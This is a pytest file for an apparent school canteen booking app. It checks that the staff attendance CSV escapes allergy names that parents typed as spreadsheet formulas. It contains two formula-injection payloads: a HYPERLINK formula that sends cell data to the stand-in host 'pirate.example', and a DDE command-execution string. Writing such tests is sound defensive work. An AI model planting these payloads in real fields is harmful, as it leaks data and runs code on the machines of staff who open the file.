"""The attendance CSV staff open in a spreadsheet never runs what a parent typed as a formula."""

import csv
import datetime as dt

import pytest
import time_machine

from tenant_apps.bookings import services as booking_services
from tenant_apps.catalog.tests.factories import enrol
from tenant_apps.families.services import allergy_add

MONDAY = dt.date(2026, 11, 30)
NOW = dt.datetime(2026, 11, 27, 10, 0, tzinfo=dt.timezone(dt.timedelta(hours=1)))


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel(NOW, tick=False):
        yield


def test_allergies_named_like_formulas_are_written_as_text(client, family, canteen, staff):
    guardian, (theo, anna) = family.guardian, family.children
    enrol(theo, canteen, "2026-2027")
    enrol(anna, canteen, "2026-2027")
    # Given allergies a parent named like spreadsheet formulas
    allergy_add(actor=guardian.user, child=theo, name='=HYPERLINK("https://pirate.example/?d="&A1;"Arachide")')
    allergy_add(actor=guardian.user, child=anna, name="+cmd|' /C calc'!A0")
    for child in (theo, anna):
        booking_services.booking_set(child=child, service=canteen, day=MONDAY, actor=guardian.user, source="portal")
    client.force_login(staff)

    # When staff download the day's attendance list
    response = client.get(f"/ville-a/gestion/reservations/pointage.csv?date={MONDAY}&service={canteen.pk}")

    # Then each such cell starts with an apostrophe: the spreadsheet shows the text and runs nothing
    rows = {row[1]: row for row in csv.reader(response.content.decode("utf-8-sig").splitlines(), delimiter=";")}
    assert rows["Théo"][4] == '\'=HYPERLINK("https://pirate.example/?d="&A1;"Arachide")'
    assert rows["Anna"][4] == "'+cmd|' /C calc'!A0"
    assert response["Content-Disposition"] == f'attachment; filename="pointage-{MONDAY}-{canteen.pk}.csv"'
